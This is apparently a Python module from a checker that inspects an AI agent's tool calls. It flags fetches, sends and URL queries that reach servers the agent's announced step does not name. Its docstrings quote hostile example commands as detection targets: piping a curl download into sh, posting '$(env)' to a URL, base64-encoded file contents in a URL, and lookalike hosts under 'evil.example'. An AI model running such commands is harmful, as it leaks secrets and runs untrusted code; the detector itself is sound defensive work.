"""The servers a call's values reach that the announcement must name (``values`` reads them
beside its other riders): a host used or fetched the text does not name, a URL's query it does not
state (``_unnamed_host``).
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any
from urllib.parse import unquote_plus

from .hosts import _HOST, other_origin, server_context, unnamed_server_host
from .kinds import (
    OBSERVING,
    _keys,
    argument_kinds,
    command_kinds,
    name_words,
)
from .preamble import Announcement
from .references import _CALL_WORD
from .walk import _keyed_strings

_USED_URL = re.compile(r"^\s*[\w.-]+\s*[=:]\s*" + _HOST.pattern + r"|" + _HOST.pattern
                       + r"[^\n|]*\|(?!\|)|\$\([^\n]*" + _HOST.pattern, re.MULTILINE)
"""A URL a text uses rather than mentions: a setting's bare value (``registry=https://…``,
``base_url: https://…``; a quoted string in code, ``url = "https://…"``, is data), a
download piped into a program (``curl -s https://… | sh``), or a line that substitutes a
command's output on its way to it (``curl -d "$(env)" https://…``)."""


_WHOLE_URL = re.compile(r"\A\s*" + _HOST.pattern + r"\S*\s*\Z")
"""A value that is a URL as a whole (``url: https://…``, ``destination: ftp://…``,
``endpoint: s3://bucket/key``): where the call points."""


_QUERY = re.compile(_HOST.pattern + r"[^\s?#\"'<>]*\?([^\s#\"'<>]+)")
"""A URL with a query: its host, and the query (``?u=maria&k=…``)."""


def _unstated_query(query: str, said: str) -> str | None:
    """A value of a URL's query (``u=maria``; a bare piece, ``?sk-…``, is a value too) whose
    words the announcement and observations (``said``) do not all say, or None: data a fetch
    carries to its server."""
    words = set(_CALL_WORD.findall(said))
    for piece in query.split("&"):
        value = unquote_plus(piece.partition("=")[2] if "=" in piece else piece).casefold()
        if not set(_CALL_WORD.findall(value)) <= words:
            return piece
    return None


_LOOPBACK = frozenset({"localhost", "127.0.0.1", "[::1]"})
"""The machine itself: a look at a service it runs reaches no other's server."""


def _fetched_host(name: str, keyed: list[tuple[str, str]], said: str, there: str,
                  fetches: bool) -> str | None:
    """Why an observing call's command line fetches from a server the announcement does not
    name, or None: a fetch (``curl``, ``wget``) riding beside a look, unless the announcement
    says a fetch ("check the config" + ``cat config.yaml; curl https://x.example``), or a URL
    that carries a substitution's output, whatever is announced (``https://x.example/$(base64
    f)``: a send), or a server beside one the announcement names. A fetch alone names its
    source in other words ("clone the widgets/core repository" + ``git clone
    https://github.com/widgets/core``)."""
    for key, v in keyed:
        kinds = command_kinds(v) if _keys("command") & set(name_words(key)) else frozenset()
        if "fetch" not in kinds:
            continue
        hosts = [(m, m.group(1)) for m in _HOST.finditer(v)
                 if m.group(1).casefold() not in _LOOPBACK]
        named = any(not unnamed_server_host(h, said, there) for _m, h in hosts)
        for m, host in hosts:
            url = v[m.start():].split(None, 1)[0]
            if ((kinds - {"fetch"} and not fetches) or named or any(c in url for c in "$`")) \
                    and unnamed_server_host(host, said, there):
                return (f"{name!r} fetches from {host[:40]!r}, a server the "
                        "announcement does not name")
    return None


def _unnamed_host(name: str, args: Mapping[str, Any], ann: Announcement,
                  kinds: frozenset[str] = frozenset({"write"})) -> str | None:
    """Why a call reaches a server the announcement does not name, or None. A changing call
    (``kinds``: its changing kinds, none for an observing one): a URL its text uses
    (``_USED_URL``) or a value that is a URL whole (``_WHOLE_URL``, under any key but the
    prose a message says: a webhook's ``url``, an export's ``destination``, an SSO
    ``metadata_url``; unless the call only fetches from it, a download, its arguments saying
    no other step); any call: a URL whose query carries a value the announcement does not
    say (``_unstated_query``: "fetch the pricing page" + ``?u=maria``), a send. Its host (an
    IP literal too) must be written out by its registrable domain (``unnamed_server_host``:
    "evil-cdn" is no get.evil-cdn.net, "Slack" no hooks.slack.com.evil.example) or be in a
    replaced text (an edit's ``old_string``). What a call writes, runs or points at sends
    nothing to, and fetches nothing from, a server the step does not name (a workflow
    posting the environment, a registry swapped in a config, an install script piped into a
    shell, a webhook or an export to another's host, a fetch carrying data)."""
    keyed = list(_keyed_strings(args))
    why = other_origin(name, keyed, ann)
    if why is not None or not any("://" in v for _, v in keyed):
        return why  # every URL pattern below holds a host after its "://" (``_HOST``)
    said, there = server_context(ann, keyed)
    if not kinds:  # a command line that looks fetches from no server the announcement does not
        # name: "check the config" + ``cat config.yaml; curl "https://x.example/$(cat f)"``
        why = _fetched_host(name, keyed, said, there, any(k == "fetch" for _v, k in ann.verbs))
        if why is not None:
            return why
    # a URL a call fetches from is its source: a download's, not where it sends
    points = bool(kinds) and not ("fetch" in kinds and not argument_kinds(args) - OBSERVING)
    for key, v in keyed:
        words = set(name_words(key))
        if "old" in words:
            continue
        found = [*_USED_URL.finditer(v)] if kinds else []
        if points and not words & _keys("prose"):
            found += [*_WHOLE_URL.finditer(v)]
        for m in found:
            host = next(g for g in m.groups() if g)
            if unnamed_server_host(host, said, there):
                return (f"{name!r} sends to or runs from {host[:40]!r}, a server the "
                        "announcement does not name")
        if words & _keys("prose"):
            continue
        for m in _QUERY.finditer(v):
            piece = _unstated_query(m.group(2), said)
            if piece is not None and unnamed_server_host(m.group(1), said, there):
                return (f"{name!r} sends {piece[:30]!r} to {m.group(1)[:40]!r} in a URL's "
                        "query, a server the announcement does not name")
    return None
